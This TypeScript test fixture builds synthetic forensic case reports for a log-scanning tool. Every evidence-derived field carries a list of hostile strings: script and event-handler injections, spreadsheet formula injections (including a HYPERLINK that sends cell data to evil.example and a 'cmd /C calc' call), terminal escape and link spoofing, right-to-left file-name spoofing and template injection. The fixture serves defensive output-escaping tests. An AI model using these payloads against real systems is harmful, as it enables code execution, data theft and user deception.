import { CASE_SCHEMA_VERSION } from '../../src/model/index.js';
import type { Case, Finding } from '../../src/model/index.js';

/** Strings an attacker can put in logs, file names and user agents, aimed at each output format. */
export const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(2)>',
  "' onmouseover='alert(3)",
  '</textarea></style></script><svg onload=alert(4)>',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\tTAB=1+1',
  '\u001b[2J\u001b[31mFAKE OK\u001b[0m',
  '\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007',
  'invoice\u202egpj.exe',
  'zero\u200bwidth\ufeff',
  'line1\r\nline2\u2028line3',
  '\u009b31mC1-CSI',
  '{{constructor.constructor("alert(5)")()}}',
  'javascript:alert(6)',
];

/** A hostile string made from all of HOSTILE (one field that carries every payload). */
export const HOSTILE_ALL = HOSTILE.join(' | ');

/** A finding whose evidence-derived parts all carry `s`. */
export function hostileFinding(s: string, i: number): Finding {
  return {
    id: `f${i}-${s}`,
    engine: 'sigma',
    rule: { id: `rule-${i}`, title: `Rule ${i}: ${s}`, file: `rules/${s}.yml`, line: 3 },
    level: i % 2 ? 'high' : 'critical',
    attack: ['T1190', s],
    cves: ['CVE-2021-26855'],
    tags: [s],
    first: Date.UTC(2021, 2, 3, 1, 2, i),
    last: Date.UTC(2021, 2, 3, 1, 2, i),
    events: [
      {
        time: Date.UTC(2021, 2, 3, 1, 2, i),
        host: s,
        prov: { evidenceId: `ev${i}`, path: `C:/logs/${s}.log`, locator: { line: i + 1 } },
        values: { [s]: s, 'c-useragent': s, list: [s, 1, null] },
      },
    ],
    eventCount: 1,
    detail: { [s]: s },
  };
}

/** A valid case; every evidence-derived string carries the hostile payloads when `hostile`. */
export function makeCase(hostile = true): Case {
  const s = hostile ? HOSTILE_ALL : 'benign';
  const findings = hostile ? HOSTILE.map((h, i) => hostileFinding(h, i)) : [];
  return {
    schema: CASE_SCHEMA_VERSION,
    tool: { name: 'kahu', version: '0.0.0-test' },
    created: '2026-01-02T03:04:05.000Z',
    finished: '2026-01-02T03:04:06.000Z',
    command: { argv: ['kahu', 'scan', s], inputs: [`/evidence/${s}`], options: { rules: [s] } },
    host: { hostname: s, platform: 'linux', node: 'v20' },
    evidence: [
      {
        id: 'ev0',
        path: `/evidence/${s}/u_ex.log`,
        size: 10,
        sha256: 'ab'.repeat(32),
        mtime: '2021-03-03T00:00:00.000Z',
        format: 'iis-w3c',
        events: 5,
        first: Date.UTC(2021, 2, 3),
        last: Date.UTC(2021, 2, 4),
        reason: s,
      },
    ],
    stats: {
      files: 1,
      bytes: 10,
      events: 5,
      unreadable: 0,
      first: Date.UTC(2021, 2, 3),
      last: Date.UTC(2021, 2, 4),
      bySource: { 'webserver.iis': { files: 1, events: 5, bytes: 10, first: null, last: null } },
      byFormat: { 'iis-w3c': { files: 1, events: 5, bytes: 10, first: null, last: null } },
      byLevel: { critical: Math.ceil(findings.length / 2), high: Math.floor(findings.length / 2) },
      durationMs: 12,
    },
    detectors: [{ name: s, findings: findings.length, ms: 1 }],
    findings,
    issues: [{ code: 'bad-record', severity: 'error', message: s, location: { path: s, line: 2 } }],
    verdicts: [
      { cve: 'CVE-2021-26855', chain: s, status: 'exploited', reason: s, findingIds: findings.map((f) => f.id), disclosed: Date.UTC(2021, 2, 2), coverage: [{ family: s, first: 0, last: 1, events: 1 }] },
    ],
    attack: {
      techniques: [{ id: 'T1190', name: s, tactics: [s], implied: false, findings: findings.map((f) => f.id) }],
      software: [{ id: 'S0020', name: s, findings: findings.map((f) => f.id) }],
      cves: [{ id: 'CVE-2021-26855', findings: findings.map((f) => f.id) }],
      unknown: [{ id: s, findings: [] }],
      activityTimes: [Date.UTC(2021, 2, 3, 1)],
    },
    attribution: {
      hypotheses: [
        {
          actor: { attackId: 'G0125', name: s, aliases: [s], country: s, sponsor: s },
          probability: 0.42,
          words: s,
          evidence: { for: [{ kind: 'technique', id: s, name: s, weight: 1.2, note: s, sources: [s] }], against: [] },
        },
      ],
      sponsors: [{ country: 'CN', name: s, probability: 0.5, words: s }],
      unknown: 0.3,
      yardstick: 'phia',
      observed: { techniques: [s], software: [], cves: [], utcOffset: 8 },
    },
  };
}
